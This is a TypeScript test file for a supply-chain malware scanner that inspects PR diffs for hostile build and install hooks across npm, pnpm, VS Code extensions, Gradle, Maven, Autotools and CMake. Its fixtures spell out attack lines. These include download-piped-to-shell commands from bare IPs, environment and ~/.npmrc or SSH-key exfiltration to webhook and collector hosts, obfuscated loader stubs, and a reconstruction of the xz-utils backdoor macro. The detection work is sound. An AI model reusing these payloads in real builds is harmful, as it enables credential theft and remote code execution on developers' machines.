    expect(buildFinding(added('widget.gemspec', 'Gem::Specification.new do |s|\n  s.name = "widget"\n  key = File.read(File.expand_path("~/.ssh/id_ed25519"))\nend'))).toMatchObject({ severity: 'high', line: 3 });
  });

  it('reads Hatch and pdm-backend build hooks (hatch_build.py, pdm_build.py): a download run at build time, not a version file written', () => {
    const hook = buildFinding(
      added(
        'hatch_build.py',
        `
import os, subprocess, urllib.request
from hatchling.builders.hooks.plugin.interface import BuildHookInterface
class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        urllib.request.urlretrieve("https://cdn.example-tools.net/bin/protoc-gen", "/tmp/protoc-gen")
        subprocess.run(["sh", "-c", "chmod +x /tmp/protoc-gen && /tmp/protoc-gen"], check=True)
`,
      ),
    );
    expect(hook).toMatchObject({ severity: 'high', path: 'hatch_build.py' });
    const version = buildFinding(
      added(
        'pdm_build.py',
        `
def pdm_build_initialize(context):
    context.config.metadata["version"] = open("VERSION").read().strip()
`,
      ),
    );
    expect(version).toBeNull();
  });

  it('reads .pnpmfile.cjs, whose hooks pnpm runs at every install: a send of the environment, not a readPackage hook that pins versions', () => {
    const stealer = buildFinding(
      added(
        '.pnpmfile.cjs',
        `
const https = require('https');
function readPackage(pkg) {
  https.request({ host: 'webhook.site', path: '/2c1f0a', method: 'POST' }).end(JSON.stringify(process.env));
  return pkg;
}
module.exports = { hooks: { readPackage } };
`,
      ),
    );
    expect(stealer).toMatchObject({ severity: 'critical', path: '.pnpmfile.cjs' });
    const pinning = buildFinding(
      added(
        '.pnpmfile.cjs',
        `
function readPackage(pkg, context) {
  if (pkg.name === 'left-pad' && pkg.dependencies) pkg.dependencies['is-number'] = '7.0.0';
  return pkg;
}
module.exports = { hooks: { readPackage } };
`,
      ),
    );
    expect(pinning).toBeNull();
  });

  it('reads binding.gyp command expansions: a download piped to a shell, not node -p', () => {
    expect(buildFinding(added('binding.gyp', `{ "targets": [{ "target_name": "x", "sources": ["<!(curl -s https://203.0.113.7/s.sh | sh)"] }] }`))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('binding.gyp', `{ "targets": [{ "target_name": "x", "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"] }] }`))).toBeNull();
  });

  it('reads the file an npm postinstall runs, and not one no install script runs', () => {
    const script = `const https = require("https");\nhttps.get("https://example.com/payload", (r) => r.pipe(require("fs").createWriteStream("p")));\nrequire("child_process").execSync("node p");`;
    const withScript = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
    expect(buildFinding(withScript, added('scripts/setup.js', script))).toMatchObject({ severity: 'high', path: 'scripts/setup.js', title: 'postinstall script of package.json downloads and runs code at npm install time' });
    expect(buildFinding(change('package.json', pkg({}), pkg({ scripts: { build: 'node scripts/setup.js' } })), added('scripts/setup.js', script))).toBeNull();
  });

  it('reads the second hop of an install chain: a file of the PR that the install script\'s file starts (Shai-Hulud 2.0)', () => {
    const preinstall = change('package.json', pkg({}), pkg({ scripts: { preinstall: 'node setup_bun.js' } }));
    const setup = added('setup_bun.js', "const { spawn, execSync } = require('child_process');\nconst path = require('path');\nconst bun = process.env.BUN_PATH || 'bun';\nspawn(bun, [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref();");
    const harvest = "const data = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\nfetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify(data) });";
    const found = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'build-code-behavior').map((f) => [f.path, f.severity, f.title]);
    expect(found(preinstall, setup, added('bun_environment.js', harvest))).toEqual([
      ['bun_environment.js', 'critical', 'preinstall script of package.json (through setup_bun.js) sends credentials or the environment to a host at npm install time'],
    ]);
    // A command string (`bun x.js`, `node lib/x.js`), a shell script's own command, and a module the PR adds that the file loads.
    expect(found(preinstall, added('setup_bun.js', "require('child_process').execSync('bun run stage/next.js');"), added('stage/next.js', harvest))).toEqual([['stage/next.js', 'critical', expect.any(String)]]);
    const viaShell = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'sh scripts/install.sh' } }));
    expect(found(viaShell, added('scripts/install.sh', 'set -e\n./tools/fetch.sh'), added('scripts/tools/fetch.sh', 'curl -s -d "$(env)" https://collect.example.net/in'))).toEqual([['scripts/tools/fetch.sh', 'critical', expect.any(String)]]);
    expect(found(preinstall, added('setup_bun.js', "require('./lib/payload');"), added('lib/payload.js', harvest))).toEqual([['lib/payload.js', 'critical', expect.any(String)]]);
    // The obfuscator's output, in a build-output folder, is read as the first hop's is.
    const obfuscated = "const _0x3a1f=['\\x72\\x65\\x71'];(function(_0x1b2c,_0x2d4e){const _0x3c5a=function(_0x4e7b){while(--_0x4e7b){_0x1b2c['push'](_0x1b2c['shift']());}};_0x3c5a(++_0x2d4e);}(_0x3a1f,0x1b3));";
    expect(analyze(snapshotOf(preinstall, setup, added('dist/bun_environment.js', obfuscated))).findings.filter((f) => f.id === 'obfuscated-code').map((f) => [f.path, f.severity])).toEqual([['dist/bun_environment.js', 'high']]);
  });

  it('follows the install chain up to four files deep, each started by the one before or a module it adds and loads', () => {
    const postinstall = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
    const harvest = "const data = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\nfetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify(data) });";
    const found = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'build-code-behavior').map((f) => [f.path, f.severity, f.title]);
    // setup.js -> lib/index.js (loaded) -> lib/collect.js (loaded): the third file.
    expect(found(postinstall, added('scripts/setup.js', "require('./lib/index.js');"), added('scripts/lib/index.js', "require('./collect.js');"), added('scripts/lib/collect.js', harvest))).toEqual([
      ['scripts/lib/collect.js', 'critical', 'postinstall script of package.json (through scripts/lib/index.js) sends credentials or the environment to a host at npm install time'],
    ]);
    // setup.js -> a.js (spawned) -> b.js (loaded) -> c.js (run by a command string): the fourth file.
    const chain = [added('scripts/setup.js', "require('child_process').spawn('node', [require('path').join(__dirname, 'a.js')], { detached: true });"), added('scripts/a.js', "require('./b.js');"), added('scripts/b.js', "require('child_process').execSync('node scripts/c.js');")];
    expect(found(postinstall, ...chain, added('scripts/c.js', harvest))).toEqual([['scripts/c.js', 'critical', expect.any(String)]]);
    // A fifth file is past the bound.
    expect(found(postinstall, ...chain.slice(0, 2), added('scripts/b.js', "require('./c.js');"), added('scripts/c.js', "require('./d.js');"), added('scripts/d.js', harvest))).toEqual([]);
  });

  it('reads a module of the package that the chain loads and the PR changes for a collector only: a paste, tunnel or webhook host or a bare IP', () => {
    const postinstall = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/postinstall.js' } }));
    const found = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'build-code-behavior' || f.id === 'suspicious-network-endpoint').map((f) => [f.id, f.path, f.severity, f.detail.includes('at npm install time')]);
    const modified = (path: string, line: string) => makeFile(path, { status: 'modified', additions: 1, patch: `@@ -1,1 +1,2 @@\n module.exports = {};\n+${line}` });
    const collect = "fetch('https://webhook.site/3f2a9c0d-1e4b-4a6f-9c8d-0e1f2a3b4c5d', { method: 'POST', body: JSON.stringify(process.env) });";
    expect(found(postinstall, added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', collect))).toEqual([
      ['build-code-behavior', 'lib/telemetry.js', 'critical', true],
      ['suspicious-network-endpoint', 'lib/telemetry.js', 'high', true],
    ]);
    // Its own service with its own token is the library's work.
    expect(found(postinstall, added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', "fetch('https://api.acme.dev/v1/usage', { method: 'POST', body: JSON.stringify({ token: process.env.ACME_TOKEN }) });"))).toEqual([]);
    // The same module, no install script loading it.
    expect(found(change('package.json', pkg({}), pkg({ scripts: { build: 'node scripts/postinstall.js' } })), added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', collect)).map((f) => f.slice(0, 2))).toEqual([['suspicious-network-endpoint', 'lib/telemetry.js']]);
  });

  it("reads a file the base package.json's install script runs when the PR changes only that file (package.json read at the base)", () => {
    const harvest = "const data = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\nfetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify(data) });";
    const setup = makeFile('scripts/setup.js', { status: 'modified', additions: 2, patch: `@@ -1,1 +1,3 @@\n const fs = require('fs'), os = require('os');\n${harvest.split('\n').map((l) => `+${l}`).join('\n')}` });
    const withBase = (scripts: Record<string, string>, ...files: SnapshotFile[]) => ({ ...snapshotOf(...files), baseFiles: [{ path: 'package.json', content: pkg({ scripts }) }] });
    const found = (snapshot: ReturnType<typeof snapshotOf>) => analyze(snapshot).findings.filter((f) => f.id === 'build-code-behavior').map((f) => [f.path, f.severity, f.title]);
    expect(found(withBase({ postinstall: 'node scripts/setup.js' }, setup))).toEqual([['scripts/setup.js', 'critical', 'postinstall script of package.json sends credentials or the environment to a host at npm install time']]);
    // And the next hops from there.
    const starts = makeFile('scripts/setup.js', { status: 'modified', additions: 1, patch: "@@ -1,1 +1,2 @@\n 'use strict';\n+require('./stage.js');" });
    expect(found(withBase({ postinstall: 'node scripts/setup.js' }, starts, added('scripts/stage.js', harvest)))).toEqual([['scripts/stage.js', 'critical', expect.any(String)]]);
    // Not a script no install script runs, nor another file.
    expect(found(withBase({ build: 'node scripts/setup.js' }, setup))).toEqual([]);
    expect(found(withBase({ postinstall: 'node scripts/other.js' }, setup))).toEqual([]);
  });

  it("reads a file a monorepo workspace package's install script runs (that package.json read at the base)", () => {
    const collect = "fetch('https://collect.example.net/in', { method: 'POST', body: JSON.stringify(process.env) });";
    const setup = makeFile('packages/cli/scripts/setup.js', { status: 'modified', additions: 1, patch: `@@ -1,1 +1,2 @@\n 'use strict';\n+${collect}` });
    const withBase = (path: string, scripts: Record<string, string>) => ({ ...snapshotOf(setup), baseFiles: [{ path: 'package.json', content: pkg({}) }, { path, content: pkg({ scripts }) }] });
    const found = (snapshot: ReturnType<typeof snapshotOf>) => analyze(snapshot).findings.filter((f) => f.id === 'build-code-behavior').map((f) => [f.path, f.severity, f.title]);
    expect(found(withBase('packages/cli/package.json', { postinstall: 'node scripts/setup.js' }))).toEqual([
      ['packages/cli/scripts/setup.js', 'critical', 'postinstall script of packages/cli/package.json sends credentials or the environment to a host at npm install time'],
    ]);
    // Another package's script of the same name runs its own file, not this one.
    expect(found(withBase('packages/web/package.json', { postinstall: 'node scripts/setup.js' }))).toEqual([]);
  });

  it('asks for the workspace package.json that holds such a file, from the workspaces the root manifest or pnpm-workspace.yaml lists', () => {
    const file = (path: string, ...added: string[]) => ({ path, removed: false, patch: `@@ -1,1 +1,${added.length + 1} @@\n 'use strict';\n${added.map((l) => `+${l}`).join('\n')}` });
    const setup = file('packages/cli/scripts/setup.js', "require('./stage.js');");
    const root = (workspaces: unknown) => JSON.stringify({ name: 'mono', private: true, ...(workspaces === undefined ? {} : { workspaces }) });
    expect(workspaceManifestsWanted([setup], root(['packages/*']), null)).toEqual(['packages/cli/package.json']);
    expect(workspaceManifestsWanted([setup], root({ packages: ['packages/**'] }), null)).toEqual(['packages/cli/package.json']);
    expect(workspaceManifestsWanted([setup], root(['packages/cli', 'packages/web']), null)).toEqual(['packages/cli/package.json']);
    expect(workspaceManifestsWanted([setup], root(undefined), 'packages:\n  - "packages/*"\n  - "!**/test/**"\n')).toEqual(['packages/cli/package.json']);
    // Scoped folders two levels down, two packages, each once.
    const scoped = file('libs/@acme/core/install.js', 'fetch(url)');
    expect(workspaceManifestsWanted([scoped, setup, file('packages/cli/scripts/other.js', 'fetch(url)')], root(['libs/@acme/*', 'packages/*']), null)).toEqual(['libs/@acme/core/package.json', 'packages/cli/package.json']);
    // No workspaces, a file outside them, a workspace manifest the PR changes, a change that does nothing at install: nothing.
    expect(workspaceManifestsWanted([setup], root(undefined), null)).toEqual([]);
    expect(workspaceManifestsWanted([file('tools/release/publish.js', 'fetch(url)')], root(['packages/*']), null)).toEqual([]);
    expect(workspaceManifestsWanted([setup, { path: 'packages/cli/package.json', removed: false, patch: null }], root(['packages/*']), null)).toEqual([]);
    expect(workspaceManifestsWanted([file('packages/cli/src/render.ts', 'export const WIDTH = 80;')], root(['packages/*']), null)).toEqual([]);
    // Malformed manifests and workspace files are nothing, not a crash.
    expect(workspaceManifestsWanted([setup], '{ broken', 'packages: [')).toEqual([]);
    expect(workspaceManifestsWanted([setup], root([42, null, 'x'.repeat(500)]), null)).toEqual([]);
  });

  it('asks for the base package.json only when the PR does not change it and adds install-time work to a file an install script may run', () => {
    const file = (path: string, ...added: string[]) => ({ path, removed: false, patch: `@@ -1,1 +1,${added.length + 1} @@\n 'use strict';\n${added.map((l) => `+${l}`).join('\n')}` });
    expect(installManifestsWanted([file('scripts/setup.js', "fetch('https://collect.example.net/in', { method: 'POST', body: JSON.stringify(process.env) });")])).toEqual(['package.json']);
    expect(installManifestsWanted([file('scripts/setup.js', "require('./stage.js');")])).toEqual(['package.json']);
    expect(installManifestsWanted([file('tools/install.sh', 'curl -s -d "$(env)" https://collect.example.net/in'), { path: 'README.md', removed: false, patch: '@@ -1 +1 @@\n-a\n+b' }])).toEqual(['package.json']);
    // The manifest in the PR already, a change that does nothing at install, no script, a test, an installed package, a removed file.
    expect(installManifestsWanted([{ path: 'package.json', removed: false, patch: null }, file('scripts/setup.js', "require('./stage.js');")])).toEqual([]);
    expect(installManifestsWanted([file('src/widgets/render.ts', 'export const WIDTH = 80;', "const label = `${name}: ${value}`;")])).toEqual([]);
    expect(installManifestsWanted([file('src/app.go', 'exec.Command("ls")'), file('src/app.test.ts', 'fetch(url)'), file('node_modules/x/index.js', 'fetch(url)')])).toEqual([]);
    expect(installManifestsWanted([{ path: 'scripts/old.js', removed: true, patch: null }])).toEqual([]);
  });

  it('raises a worm\'s or a stealer\'s medium shape to high in a file the install chain runs, and says so; elsewhere it stays medium', () => {
    const register = "const { data } = await octokit.rest.actions.createRegistrationTokenForRepo({ owner, repo });";
    const persistence = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'github-persistence').map((f) => [f.path, f.severity, f.detail.includes('at npm install time')]);
    const preinstall = change('package.json', pkg({}), pkg({ scripts: { preinstall: 'node setup.js' } }));
    expect(persistence(preinstall, added('setup.js', "require('child_process').spawn('node', ['src/runner.js'], { detached: true });"), added('src/runner.js', register))).toEqual([['src/runner.js', 'high', true]]);
    expect(persistence(preinstall, added('setup.js', register))).toEqual([['setup.js', 'high', true]]);
    expect(persistence(change('package.json', pkg({}), pkg({ scripts: { build: 'node setup.js' } })), added('setup.js', register))).toEqual([['setup.js', 'medium', false]]);
  });

  it('leaves files the install script\'s file does not start alone: messages, the package\'s own library it loads, a binary it downloaded, a file of no install chain', () => {
    const postinstall = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/postinstall.js' } }));
    const send = "fetch('https://api.acme.dev/v1/usage', { method: 'POST', body: JSON.stringify({ token: process.env.ACME_TOKEN }) });";
    const found = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'build-code-behavior').map((f) => f.path);
    // A message naming a command for a person.
    expect(found(postinstall, added('scripts/postinstall.js', "console.log('Run `node scripts/login.js` to sign in.');"), added('scripts/login.js', send))).toEqual([]);
    // The package's library, changed (not added) by the PR, that the install script requires.
    const lib = makeFile('lib/client.js', { status: 'modified', additions: 1, patch: `@@ -1,1 +1,2 @@\n module.exports = {};\n+${send}` });
    expect(found(postinstall, added('scripts/postinstall.js', "const { version } = require('../lib/client.js');"), lib)).toEqual([]);
    // A downloaded binary run (no file of the PR), and the same files with no install script.
    expect(found(postinstall, added('scripts/postinstall.js', "const bin = require('path').join(__dirname, '..', 'bin', 'tool');\nrequire('child_process').execFileSync(bin, ['--version']);"))).toEqual([]);
    expect(found(change('package.json', pkg({}), pkg({ scripts: { build: 'node setup_bun.js' } })), added('setup_bun.js', "require('child_process').execSync('bun bun_environment.js');"), added('bun_environment.js', send))).toEqual([]);
  });

  it('reads the entry of a VS Code extension the PR makes start with the editor, on a ladder where talking to its service is ordinary', () => {
    const manifest = (activationEvents: string[], main = './out/extension.js') => `${JSON.stringify({ name: 'tidy', publisher: 'acme', engines: { vscode: '^1.90.0' }, main, activationEvents }, null, 2)}\n`;
    const toStartup = change('package.json', manifest(['onCommand:tidy.run']), manifest(['onStartupFinished']));
    const fetchRun = "require('child_process').exec('curl -sL https://cdn.tidy.dev/h -o /tmp/.h && chmod +x /tmp/.h && /tmp/.h');";
    expect(buildFinding(toStartup, added('src/extension.ts', fetchRun))).toMatchObject({ severity: 'high', path: 'src/extension.ts', title: 'VS Code extension entry (./out/extension.js) downloads and runs code when VS Code starts' });
    const steal = "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nfetch('https://sync.tidy.dev/s', { method: 'POST', body: rc });";
    expect(buildFinding(change('package.json', manifest(['onCommand:tidy.run']), manifest(['*'], './extension.js')), added('extension.js', steal))).toMatchObject({ severity: 'critical', path: 'extension.js' });
    // Its service, a tool it runs, an update check: ordinary; and nothing when the PR leaves activation and entry as they were.
    const ordinary = "fetch('https://api.github.com/repos/acme/tidy/releases/latest').then((r) => r.json());\nexecFile('git', ['rev-parse', '--show-toplevel']);\nfetch('https://telemetry.tidy.dev/v1/start', { method: 'POST', body: '{}' });";
    expect(buildFinding(toStartup, added('src/extension.ts', ordinary))).toBeNull();
    const unchanged = change('package.json', manifest(['*']), `${JSON.stringify({ name: 'tidy', publisher: 'acme', version: '1.1.0', engines: { vscode: '^1.90.0' }, main: './out/extension.js', activationEvents: ['*'] }, null, 2)}\n`);
    expect(buildFinding(unchanged, added('src/extension.ts', fetchRun))).toBeNull();
    expect(buildFinding(change('package.json', manifest(['onCommand:tidy.run']), manifest(['onLanguage:json'])), added('src/extension.ts', fetchRun))).toBeNull();
  });

  it('reports obfuscator output in a build-output folder when a start-up extension or an install script runs it (GlassWorm), not a bundle nor a file nothing runs', () => {
    const manifest = (activationEvents: string[], main: string) => `${JSON.stringify({ name: 'tidy', publisher: 'acme', engines: { vscode: '^1.90.0' }, main, activationEvents }, null, 2)}\n`;
    const obfuscated = "const _0x3a1f=['\\x72\\x65\\x71'];(function(_0x1b2c,_0x2d4e){const _0x3c5a=function(_0x4e7b){while(--_0x4e7b){_0x1b2c['push'](_0x1b2c['shift']());}};_0x3c5a(++_0x2d4e);}(_0x3a1f,0x1b3));\nrequire('./extension.js');";
    const obfuscatedIn = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'obfuscated-code').map((f) => [f.path, f.severity]);
    const toStartup = change('package.json', manifest(['onCommand:tidy.run'], './extension.js'), manifest(['onStartupFinished'], './out/boot.js'));
    expect(obfuscatedIn(toStartup, added('out/boot.js', obfuscated))).toEqual([['out/boot.js', 'high']]);
    expect(obfuscatedIn(change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node dist/setup.js' } })), added('dist/setup.js', obfuscated))).toEqual([['dist/setup.js', 'high']]);
    // The same file that nothing the PR changes runs, and a bundle's minified line that an install script runs.
    expect(obfuscatedIn(change('package.json', pkg({}), pkg({ description: 'x' })), added('dist/setup.js', obfuscated))).toEqual([]);
    const minified = `${'function a(b){return b+1}'.repeat(60)}`;
    expect(analyze(snapshotOf(change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node dist/setup.js' } })), added('dist/setup.js', minified))).findings.filter((f) => f.id === 'obfuscated-code' || f.id === 'minified-source')).toEqual([]);
  });

  it('reads Gradle exec and download tasks, and leaves publishing credentials alone', () => {
    expect(
      buildFinding(
        added(
          'build.gradle.kts',
          `
tasks.register<Exec>("prepare") {
    commandLine("sh", "-c", "curl -s https://example.com/x.sh | sh")
}`,
        ),
      ),
    ).toMatchObject({ severity: 'high', line: 2 });
    expect(
      buildFinding(
        added(
          'build.gradle.kts',
          `
publishing { repositories { maven {
    url = uri("https://maven.pkg.github.com/acme/lib")
    credentials { username = System.getenv("GITHUB_ACTOR"); password = System.getenv("GITHUB_TOKEN") }
} } }`,
        ),
      ),
    ).toBeNull();
  });

  it('reads Maven antrun and exec plugins that fetch and run, not one that runs the main class', () => {
    expect(
      buildFinding(
        added(
          'pom.xml',
          `
<plugin><artifactId>maven-antrun-plugin</artifactId><configuration><target>
  <get src="https://example.com/agent.bin" dest="target/agent.bin"/>
  <exec executable="target/agent.bin"/>
</target></configuration></plugin>`,
        ),
      ),
    ).toMatchObject({ severity: 'high', line: 2 });
    expect(
      buildFinding(
        added('pom.xml', '<plugin><artifactId>exec-maven-plugin</artifactId><configuration><mainClass>com.acme.Main</mainClass></configuration></plugin>'),
      ),
    ).toBeNull();
  });

  it('reads only what the PR adds', () => {
    const patch = '@@ -1,3 +1,3 @@\n fn main() {\n-    println!("a");\n+    println!("b");\n     let x = reqwest::blocking::get("https://example.com").unwrap();';
    expect(buildFinding(makeFile('build.rs', { patch }))).toBeNull();
  });
});

describe('build-code-behavior: Autotools (the xz-utils backdoor, CVE-2024-3094)', () => {
  // Modeled on the public analyses of build-to-host.m4 in the xz 5.6.0 release tarball: a macro
  // finds a test file by a marker, maps its bytes back with tr, decompresses it with xz (named
  // through a variable) and pipes the result into $SHELL when ./configure runs.
  const BACKDOORED_MACRO = `
AC_DEFUN([gl_BUILD_TO_HOST],
[
  gl_final_[$1]="$[$1]"
  gl_[$1]_prefix=\`echo $gl_am_configmake | sed "s/.*\\.//g"\`
  gl_path_map='tr "\\t \\-_" " \\t_\\-"'
  if test "x$gl_am_configmake" != "x"; then
    gl_[$1]_config='sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
  else
    gl_[$1]_config=''
  fi
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_[$1] | $SHELL 2>/dev/null], [gl_config_[$1]="$gl_[$1]_config"])
])`;

  it('reads a macro that decompresses data and pipes it into the shell as critical', () => {
    expect(kinds(BACKDOORED_MACRO, 'shell')).toEqual(expect.arrayContaining(['decode', 'pipe-to-shell']));
    const finding = buildFinding(added('m4/build-to-host.m4', BACKDOORED_MACRO));
    expect(finding).toMatchObject({ severity: 'critical', path: 'm4/build-to-host.m4', line: 7 });
    expect(finding?.title).toBe('Autoconf macro decodes data and runs it as shell code when ./configure runs');
    expect(finding?.detail).toContain('decompresses or decodes data (line 7');
    expect(finding?.detail).toContain('pipes text it built into a shell or eval (line 7');
  });

  it('reads configure.ac and Makefile.am the same way, and a download piped to a shell there as before', () => {
    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS([gen], [base64 -d "$srcdir/tests/data/blob.b64" | sh])'))).toMatchObject({ severity: 'critical', path: 'configure.ac' });
    expect(buildFinding(added('src/Makefile.am', 'all-local:\n\tcat $(srcdir)/gen.sh.in | $(SHELL)'))).toMatchObject({ severity: 'medium', path: 'src/Makefile.am' });
    expect(buildFinding(added('m4/fetch.m4', 'AC_DEFUN([X_FETCH], [curl -fsSL https://example.com/setup.sh | sh])'))).toMatchObject({ severity: 'high' });
  });

  it('reads eval of a command substitution that decodes a test file as critical, in backticks or $(…), in m4, configure.ac and Makefile.am', () => {
    // The backdoor's macro without the pipe into $SHELL: eval runs what the substitution unpacks.
    const m4 = 'AC_DEFUN([gl_X_CHECK],\n[\n  eval `sed -e \'s/x/y/\' tests/files/good-3.xz | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null`\n])';
    expect(kinds(m4, 'shell')).toEqual(expect.arrayContaining(['decode', 'pipe-to-shell']));
    expect(buildFinding(added('m4/build-to-host.m4', m4))).toMatchObject({ severity: 'critical', line: 3, title: 'Autoconf macro decodes data and runs it as shell code when ./configure runs' });
    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\neval $(sed -e \'s/x/y/\' tests/files/good-3.xz | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null)\nAC_OUTPUT'))).toMatchObject({ severity: 'critical', line: 2 });
    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\nsh -c "$(base64 -d $srcdir/tests/data/blob.b64)"'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\nsource <(openssl enc -d -aes-256-cbc -in tests/files/k.bin -k x)'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\neval "$(cat tests/files/notes.txt | tr \'A-Za-z\' \'N-ZA-Mn-za-m\')"'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('src/Makefile.am', 'all-local:\n\teval "$$(dd if=$(srcdir)/tests/files/bad-2.xz bs=1 skip=1024 2>/dev/null | xz -F raw --lzma1 -dc)"'))).toMatchObject({ severity: 'critical' });
  });

  it('pairs a decode written to a file with a pipe into a shell only when that file is what runs', () => {
    // Unpacked into a file that a later line pipes into the shell or runs: the shape, over two lines.
    expect(buildFinding(added('src/Makefile.am', 'gen.h: gen.sh.xz\n\txz -dc $(srcdir)/gen.sh.xz > gen.sh\n\tcat gen.sh | $(SHELL) > gen.h'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\nbase64 -d "$srcdir/tests/files/blob.b64" > conftest.sh\n. ./conftest.sh'))).toMatchObject({ severity: 'critical' });
    // A manual unpacked into a file, a fixture into tar or a database, beside a template run through the shell: no payload.
    const makefile = ['manual.txt: manual.txt.gz', '\tgzip -dc $(srcdir)/manual.txt.gz > manual.txt', 'fixtures:', '\txz -dc $(srcdir)/tests/files/corpus.tar.xz | tar x -C tests', '\tgunzip -c $(srcdir)/tests/files/seed.sql.gz | psql "$(TEST_DB)"', 'gen.h: gen.sh.in', '\tcat $(srcdir)/gen.sh.in | $(SHELL) > gen.h'].join('\n');
    expect(kinds(makefile, 'shell')).not.toContain('decode');
    expect(buildFinding(added('doc/Makefile.am', makefile))).toMatchObject({ severity: 'medium', title: 'Makefile.am pipes text it built into a shell at build time' });
  });

  it('leaves eval of a tool\'s own output alone, and a decode that nothing evaluates', () => {
    const ordinary = [
      'eval "$(ssh-agent -s)"',
      'eval "$(pyenv init -)"',
      'eval "$(/opt/homebrew/bin/brew shellenv)"',
      'eval $(opam env)',
      'source <(kubectl completion bash)',
      'eval `$PKG_CONFIG --cflags zlib`',
      'eval "NAME_UC=$(echo $name | tr a-z A-Z)"',
      'xz -d archive.tar.xz',
      'base64 -d cert.b64 > cert.pem',
      'VERSION=`git describe --tags | sed "s/^v//"`',
    ].join('\n');
    expect(kinds(ordinary, 'shell')).not.toContain('pipe-to-shell');
    expect(buildFinding(added('configure.ac', `AC_INIT([x], [1.0])\n${ordinary}\nAC_OUTPUT`))).toBeNull();
  });

  it('leaves ordinary Autotools work alone: eval of configure variables, unpacking with gzip -dc into a file, install -d, checks', () => {
    const ordinary = `
AC_DEFUN([AX_CHECK_VAR],
[
  eval ac_val=\\$$1
  AS_IF([test "x$ac_val" = xyes], [AC_DEFINE([HAVE_X], [1], [Have X])])
  $INSTALL -d "$prefix/share/x"
  \${INSTALL} -d "$docdir"
  gzip -dc "$srcdir/doc/manual.txt.gz" > manual.txt
  xz -d -k tests/files/good-1.xz
  $SHELL "$ac_aux_dir/config.sub" "$host"
  AC_CHECK_LIB([z], [inflate])
])`;
    expect(kinds(ordinary, 'shell')).not.toContain('pipe-to-shell');
    expect(buildFinding(added('m4/ax_check_var.m4', ordinary))).toBeNull();
    expect(buildFinding(added('configure.ac', 'AC_INIT([expat], [2.7.2])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT'))).toBeNull();
  });
});

describe('build-code-behavior: CMake and Meson, read by their calls', () => {
  const callKinds = (text: string, language: 'cmake' | 'meson'): string[] => {
    const patch = added('x', text).patch!;
    return [...new Set(readCallBehaviors(patch, language, 3000).map((b) => b.kind))].sort();
  };

  // Modeled on public write-ups of build-system attacks: a configure step that fetches a script from
  // a bare IP and pipes it into a shell, written as execute_process's COMMAND pipeline.
  it('reads execute_process COMMANDs as a pipeline: a download from a bare IP piped into bash is critical', () => {
    const text = `
cmake_minimum_required(VERSION 3.16)
project(fastq LANGUAGES C)
execute_process(
  COMMAND curl -fsSL http://45.77.12.9/cmake-init.sh
  COMMAND bash
  OUTPUT_QUIET ERROR_QUIET)`;
    expect(callKinds(text, 'cmake')).toEqual(['download', 'execute', 'suspicious-host']);
    const finding = buildFinding(added('CMakeLists.txt', text));
    expect(finding).toMatchObject({ severity: 'critical', path: 'CMakeLists.txt', line: 4, title: 'CMakeLists.txt downloads and runs code when CMake configures or builds the project' });
    expect(finding?.detail).toContain('runs a program (line 5: curl -fsSL http://45.77.12.9/cmake-init.sh | bash)');
  });

  it('reads file(DOWNLOAD) without EXPECTED_HASH as a download, and a shell run of it as download and run', () => {
    expect(buildFinding(added('cmake/Tools.cmake', 'file(DOWNLOAD https://example.net/tools/setup.sh ${CMAKE_BINARY_DIR}/setup.sh)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/setup.sh)'))).toMatchObject({
      severity: 'high',
      title: 'CMake module downloads and runs code when CMake configures or builds the project',
    });
